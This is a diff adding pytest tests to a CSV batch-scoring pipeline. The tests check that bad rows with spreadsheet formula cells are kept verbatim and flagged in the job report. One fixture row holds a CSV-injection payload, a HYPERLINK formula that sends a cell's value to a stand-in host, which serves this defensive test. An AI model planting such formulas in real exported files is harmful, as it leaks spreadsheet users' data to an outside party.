@@ -518,3 +518,36 @@ def test_given_an_upper_case_extension_when_scored_then_read_as_csv_and_filed_un
     outcome = score_job(put(clients.s3, f"incoming/{name}", body), clients=clients, context=settings)
     assert (outcome.status, outcome.detail["scored"]) == ("scored", 30)
     assert outcome.detail["outputs"]["predictions"].startswith(f"predictions/{name.split('.')[0]}/")
+
+
+# ---------------------------------------------------------------------------- bad rows opened in a spreadsheet
+def test_given_bad_rows_with_formula_cells_when_partly_scored_then_the_report_warns_where_they_are(env, champion):
+    """bad_rows.csv is for people to correct in a spreadsheet, which may run a cell starting with = + - @ as a
+    formula. The cells stay verbatim (they are the rows to fix and upload again); the report says which."""
+    clients, settings = env
+    lines = generate(400, seed=9, with_label=False).decode().splitlines()
+    lines[5] = '=HYPERLINK("http://x.example/?"&A1),not-a-number,1,1,1,one-year,card'
+    lines[10] = "C10,-5,1,@SUM(1),-2+3,one-year,card"  # -5: a number, not a formula
+    lines[20] = "C20,7,1,1,1,weekly,card"  # bad, but harmless
+    job = put(clients.s3, "incoming/formulas.csv", ("\n".join(lines) + "\n").encode())
+
+    outcome = score_job(job, clients=clients, context=settings)
+
+    assert outcome.status == "scored" and outcome.detail["bad_rows"] == 3
+    warning = report_of(clients.s3, outcome)["spreadsheet_warning"]
+    assert warning["cells"] == 3 and "formula" in warning["warning"] and "text" in warning["warning"]
+    assert warning["first"] == [{"line": 1, "column": 1}, {"line": 2, "column": 4}, {"line": 2, "column": 5}]
+    bad = clients.s3.get_object(
+        Bucket=DATA, Key=outcome.detail["outputs"]["report"].replace("report.json", "bad_rows.csv")
+    )
+    assert bad["Body"].read().decode().splitlines()[0].startswith('"=HYPERLINK(')  # verbatim
+
+
+def test_given_bad_rows_without_formula_cells_then_the_report_has_no_warning(env, champion):
+    clients, settings = env
+    lines = generate(400, seed=9, with_label=False).decode().splitlines()
+    lines[5] = "C5,-3,1,1,1,weekly,card"
+    outcome = score_job(
+        put(clients.s3, "incoming/plain-bad.csv", ("\n".join(lines) + "\n").encode()), clients=clients, context=settings
+    )
+    assert outcome.detail["bad_rows"] == 1 and "spreadsheet_warning" not in report_of(clients.s3, outcome)
